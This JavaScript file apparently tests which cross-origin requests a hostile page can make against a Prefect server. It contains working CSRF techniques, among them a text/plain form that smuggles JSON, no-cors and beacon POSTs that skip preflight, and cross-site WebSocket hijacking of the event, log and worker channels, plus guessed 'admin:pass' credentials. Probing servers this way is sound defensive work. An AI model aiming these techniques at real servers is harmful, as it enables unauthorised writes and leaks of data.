// What a page of another origin can try with a Prefect server. Each attempt gives the text that the page could read, or
// null. What it writes is called "evil-<attempt>".
const JSON_TYPE = {headers: {"Content-Type": "application/json"}};
const flow = name => JSON.stringify({name: `evil-${name}`});
const untyped = text => new Blob([text]); // Sent without a content type: the browser asks nobody first.
const post = (api, path, body, options = {}) => fetch(api + path, {method: "POST", body, ...options});
const text = async response => ((await response).ok ? (await response).text() : null);

const hex = count => Array.from({length: count}, () => Math.floor(16 * Math.random()).toString(16)).join("");
const event = name => JSON.stringify({
  id: `${hex(8)}-${hex(4)}-4${hex(3)}-8${hex(3)}-${hex(12)}`,
  occurred: new Date().toISOString(),
  event: `evil-${name}`,
  resource: {"prefect.resource.id": "evil"},
});

const form = (api, name) => new Promise(done => {
  const frame = Object.assign(document.createElement("iframe"), {name, onload: () => done(null)});
  const sent = document.createElement("form");
  Object.assign(sent, {method: "post", action: `${api}/flows/`, enctype: "text/plain", target: name});
  const field = {name: `{"name": "evil-${name}", "tags": ["`, value: '"]}'}; // JSON around the form's "=".
  sent.append(Object.assign(document.createElement("input"), field));
  document.body.append(frame, sent);
  sent.submit();
  setTimeout(() => done(null), 3000);
});

const login = token => JSON.stringify({type: "auth", token});
const wish = JSON.stringify({type: "filter", filter: {}});
// The frames that the server sent, if any.
const socket = (api, path, protocols, ...messages) => new Promise(done => {
  const frames = [];
  const end = () => done(frames.length ? frames.join("\n") : null);
  const opened = new WebSocket(api.replace("http", "ws") + path, protocols);
  opened.onmessage = message => frames.push(message.data);
  opened.onopen = () => messages.forEach(message => opened.send(message));
  opened.onclose = end;
  setTimeout(end, 4000);
});

const ATTEMPTS = {
  count: api => text(fetch(`${api}/flow_runs/count`, {method: "POST"})),
  version: api => text(fetch(`${api}/admin/version`)),
  cookies: api => text(fetch(`${api}/admin/version`, {credentials: "include"})),
  token: api => text(fetch(`${api}/csrf-token?client=evil`)),
  filter: api => text(post(api, "/flows/filter", "{}", JSON_TYPE)),
  json: api => text(post(api, "/flows/", flow("json"), JSON_TYPE)),
  plain: api => text(post(api, "/flows/", flow("plain"))),
  untyped: api => text(post(api, "/flows/", untyped(flow("untyped")))),
  opaque: api => text(post(api, "/flows/", untyped(flow("opaque")), {mode: "no-cors"})),
  guessed: api => text(post(api, "/flows/", untyped(flow("guessed")), {
    headers: {"Prefect-Csrf-Token": "guess", "Prefect-Csrf-Client": "evil", Authorization: `Basic ${btoa("admin:pass")}`},
  })),
  beacon: async api => (navigator.sendBeacon(`${api}/flows/`, untyped(flow("beacon"))), null),
  form: api => form(api, "form"),
  events: api => text(post(api, "/events", untyped(`[${event("events")}]`))),
  event_in: api => socket(api, "/events/in", [], event("event_in")),
  event_login: api => socket(api, "/events/in", ["prefect"], login(null), event("event_login")),
  event_guessed: api => socket(api, "/events/in", ["prefect"], login("admin:pass"), event("event_guessed")),
  event_out: api => socket(api, "/events/out", [], wish),
  event_out_login: api => socket(api, "/events/out", ["prefect"], login(""), wish),
  logs: api => socket(api, "/logs/out", [], wish),
  logs_login: api => socket(api, "/logs/out", ["prefect"], login(null), wish),
  tasks: api => socket(api, "/task_runs/subscriptions/scheduled", ["prefect"], login(null)),
  worker: api => socket(api, "/work_pools/evil/workers/connect", ["prefect"], login(null)),
};

const attack = async api => Object.fromEntries(await Promise.all(
  Object.entries(ATTEMPTS).map(async ([name, attempt]) => [name, await attempt(api).catch(() => null)])
));
